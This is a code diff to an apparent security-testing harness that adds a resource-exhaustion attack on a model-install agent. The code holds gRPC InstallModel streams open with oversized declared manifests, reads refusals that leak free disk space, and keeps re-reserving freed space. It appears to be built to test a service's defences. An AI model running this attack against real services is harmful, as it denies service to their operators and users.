@@ -389,6 +389,8 @@ class AttackPlan:
     """(model id, token) of each pod that holds an install stream open."""
     install_declare: int = 64 * 1024**3
     connections: int = 1000
+    ready_file: str = ""
+    """Created once the install streams are held (what the victim's probe waits for)."""
 
 
 @dataclass
@@ -509,71 +511,102 @@ def attack_agent_messages(plan: AttackPlan, stop: threading.Event, result: Attac
     _repeat_in_threads(plan, stop, result, one, plan.concurrency)
 
 
+def _install_stream(
+    plan: AttackPlan, model: str, token: str, declare: int, deadline: float, result: AttackResult
+) -> tuple[GrpcCall | None, int | None]:
+    """Open an InstallModel stream for `model` declaring `declare` bytes and send only its
+    header: the call if the agent still holds it open a second later, else None; and the free
+    bytes its refusal revealed, if it did."""
+    from protos import agent_pb2
+
+    files = [
+        agent_pb2.FileEntry(path="config.pbtxt", size=64, sha256="0" * 64),
+        agent_pb2.FileEntry(path="1/model.onnx", size=max(declare - 64, 0), sha256="0" * 64),
+    ]
+    header = agent_pb2.InstallModelRequest(
+        header=agent_pb2.InstallHeader(model_id=model, manifest=agent_pb2.Manifest(files=files))
+    )
+    call = GrpcCall(
+        plan.source,
+        plan.agent,
+        AGENT_SERVICE + "InstallModel",
+        [("authorization", f"Bearer {token}")],
+    )
+    result.sent += 1
+    call.send(grpc_frame(header.SerializeToString()), False, deadline)
+    # A refusal comes at once; a stream still open a moment later holds its room.
+    settle = min(time.monotonic() + 1.0, deadline)
+    while not call.status and time.monotonic() < settle:
+        call.read(settle)
+    if not call.status:
+        return call, None
+    call.close()
+    result.answers[call.status[:90]] += 1
+    revealed = _REVEALED_RE.search(call.status)
+    if revealed and "the refusals revealed the node's free disk" not in result.notes:
+        result.notes.append("the refusals revealed the node's free disk")
+    return None, int(revealed.group(1)) if revealed else None
+
+
 def attack_install_streams(plan: AttackPlan, stop: threading.Event, result: AttackResult) -> None:
     """Per pod, an InstallModel stream that sends its header and nothing more, declaring as much
     as the agent lets it (halving on refusal, or exactly what a refusal reveals is free), held
-    open until the deadline or `stop`."""
-    from protos import agent_pb2
-
+    open until the deadline or `stop`. Where refusals reveal the free space, the last pod asks
+    again every 0.1 s and the last stream held is reopened larger by what others' files freed
+    meanwhile, as an attacker keeping the disk full would."""
     deadline = _until(plan)
-    held: list[GrpcCall] = []
-    reserved = 0
+    held: dict[str, tuple[GrpcCall, int]] = {}
+    tokens = dict(plan.installs)
+    revealing = False
     try:
-        for model, token in plan.installs:
+        # The last pod (of two or more) is the spare that watches for freed space.
+        fillers = plan.installs[:-1] if len(plan.installs) > 1 else plan.installs
+        for model, token in fillers:
             declare = plan.install_declare
             for _ in range(40):
                 if declare < MIB or time.monotonic() > deadline:
                     break
-                header = agent_pb2.InstallModelRequest(
-                    header=agent_pb2.InstallHeader(
-                        model_id=model,
-                        manifest=agent_pb2.Manifest(
-                            files=[
-                                agent_pb2.FileEntry(path="config.pbtxt", size=64, sha256="0" * 64),
-                                agent_pb2.FileEntry(
-                                    path="1/model.onnx", size=declare - 64, sha256="0" * 64
-                                ),
-                            ]
-                        ),
-                    )
-                )
-                call = GrpcCall(
-                    plan.source,
-                    plan.agent,
-                    AGENT_SERVICE + "InstallModel",
-                    [("authorization", f"Bearer {token}")],
-                )
-                result.sent += 1
-                call.send(grpc_frame(header.SerializeToString()), False, deadline)
-                # A refusal comes at once; a stream still open a moment later holds its room.
-                settle = min(time.monotonic() + 1.0, deadline)
-                while not call.status and time.monotonic() < settle:
-                    call.read(settle)
-                if not call.status:
-                    held.append(call)
-                    reserved += declare
+                call, revealed = _install_stream(plan, model, token, declare, deadline, result)
+                if call is not None:
+                    held[model] = (call, declare)
                     result.answers["held open"] += 1
                     break
-                call.close()
-                result.answers[call.status[:90]] += 1
-                revealed = _REVEALED_RE.search(call.status)
-                if revealed:
-                    if "revealed" not in " ".join(result.notes):
-                        result.notes.append("the refusal revealed the node's free disk")
-                    declare = min(int(revealed.group(1)), declare // 2)
-                else:
-                    declare //= 2
+                revealing = revealing or revealed is not None
+                declare = revealed if revealed is not None and revealed < declare else declare // 2
+        reserved = sum(declared for _, declared in held.values())
         result.notes.append(f"{len(held)} streams hold {reserved / 1024**3:.1f} GiB declared")
+        if plan.ready_file:
+            Path(plan.ready_file).touch()
+        spare = next((m for m in tokens if m not in held), "")
+        topups = 0
         while time.monotonic() < deadline and not stop.is_set():
-            for call in held:
+            for call, _ in held.values():
                 if not call.status:
-                    call.read(time.monotonic() + 0.05)
-            stop.wait(0.2)
-        closed = [c.status for c in held if c.status]
+                    call.read(time.monotonic() + 0.02)
+            if revealing and spare and held:
+                probe, freed = _install_stream(
+                    plan, spare, tokens[spare], plan.install_declare, deadline, result
+                )
+                if probe is not None:  # room enough for a whole model: keep it too
+                    held[spare], spare = (probe, plan.install_declare), ""
+                elif freed:
+                    last = list(held)[-1]
+                    call, declared = held.pop(last)
+                    call.close()
+                    more, _ = _install_stream(
+                        plan, last, tokens[last], declared + freed, deadline, result
+                    )
+                    if more is not None:
+                        topups += 1
+                        held[last] = (more, declared + freed)
+            stop.wait(0.1)
+        if topups:
+            result.notes.append(f"{topups} top-ups")
+        closed = [c.status for c, _ in held.values() if c.status]
         if closed:
             result.notes.append(f"the agent ended {len(closed)} held streams: {closed[0][:80]}")
     finally:
-        for call in held:
+        for call, _ in held.values():
             call.close()
 
 
